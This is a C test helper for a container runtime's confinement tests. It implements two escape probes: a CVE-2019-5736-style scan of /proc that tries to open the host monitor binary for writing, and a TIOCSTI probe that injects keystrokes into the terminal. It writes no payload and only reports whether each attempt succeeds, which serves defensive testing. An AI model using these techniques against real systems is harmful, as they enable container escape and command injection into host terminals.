/* Attacks from inside a container, for tests/integration/test_confinement.py.
 *
 *   escape exe DEV INO SECONDS   CVE-2019-5736: for SECONDS, look through /proc for a process
 *                                whose /proc/PID/exe opens (O_PATH) onto the host file DEV:INO
 *                                (the monitor's binary) and try to open it for writing, directly
 *                                and by reopening the O_PATH fd through /proc/self/fd.  Prints
 *                                `seen N hits N writes N`: N processes named minictr:* seen,
 *                                N exe opened onto the host file, N writable fds obtained.
 *   escape tiocsti               TIOCSTI "INJECTED\n" on fds 0, 1, 2 and /dev/tty; prints one
 *                                `NAME ok|errno` line each.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

static int
try_write (int pid, int *writes)
{
  char path[64];
  int fd;

  snprintf (path, sizeof path, "/proc/%d/exe", pid);
  fd = open (path, O_WRONLY | O_CLOEXEC);
  if (fd >= 0)
    {
      (*writes)++;
      close (fd);
    }
  return 0;
}

static void
scan (dev_t dev, ino_t ino, int *seen, int *hits, int *writes)
{
  DIR *proc = opendir ("/proc");
  struct dirent *e;
  int self = getpid ();

  while (proc && (e = readdir (proc)) != NULL)
    {
      int pid = atoi (e->d_name);
      char path[64], comm[32] = "", reopen[64];
      struct stat st;
      FILE *f;
      int fd;

      if (pid <= 0 || pid == self)
        continue;
      snprintf (path, sizeof path, "/proc/%d/comm", pid);
      if ((f = fopen (path, "re")) != NULL)
        {
          if (fgets (comm, sizeof comm, f) && strncmp (comm, "minictr", 7) == 0)
            (*seen)++;
          fclose (f);
        }
      snprintf (path, sizeof path, "/proc/%d/exe", pid);
      fd = open (path, O_PATH | O_CLOEXEC);
      if (fd < 0)
        continue;
      if (fstat (fd, &st) == 0 && st.st_dev == dev && st.st_ino == ino)
        {
          (*hits)++;
          try_write (pid, writes);
          snprintf (reopen, sizeof reopen, "/proc/self/fd/%d", fd);
          int w = open (reopen, O_WRONLY | O_CLOEXEC);
          if (w >= 0)
            {
              (*writes)++;
              close (w);
            }
        }
      close (fd);
    }
  if (proc)
    closedir (proc);
}

static int
exe_attack (char **argv)
{
  dev_t dev = (dev_t) strtoull (argv[0], NULL, 10);
  ino_t ino = (ino_t) strtoull (argv[1], NULL, 10);
  time_t end = time (NULL) + atoi (argv[2]);
  int seen = 0, hits = 0, writes = 0;

  printf ("ready\n");
  fflush (stdout);
  while (time (NULL) < end)
    scan (dev, ino, &seen, &hits, &writes);
  printf ("seen %d hits %d writes %d\n", seen, hits, writes);
  return 0;
}

static void
inject (const char *name, int fd)
{
  const char *text = "INJECTED\n";
  int err = 0;

  for (const char *c = text; *c && !err; c++)
    if (ioctl (fd, TIOCSTI, c) < 0)
      err = errno;
  if (err)
    printf ("%s %s\n", name, strerror (err));
  else
    printf ("%s ok\n", name);
}

static int
tiocsti (void)
{
  int tty = open ("/dev/tty", O_RDWR | O_CLOEXEC);

  inject ("fd0", 0);
  inject ("fd1", 1);
  inject ("fd2", 2);
  if (tty < 0)
    printf ("tty %s\n", strerror (errno));
  else
    inject ("tty", tty);
  return 0;
}

int
main (int argc, char **argv)
{
  setvbuf (stdout, NULL, _IOLBF, 0);
  if (argc == 5 && strcmp (argv[1], "exe") == 0)
    return exe_attack (argv + 2);
  if (argc == 2 && strcmp (argv[1], "tiocsti") == 0)
    return tiocsti ();
  fprintf (stderr, "usage: escape exe DEV INO SECONDS | escape tiocsti\n");
  return 2;
}
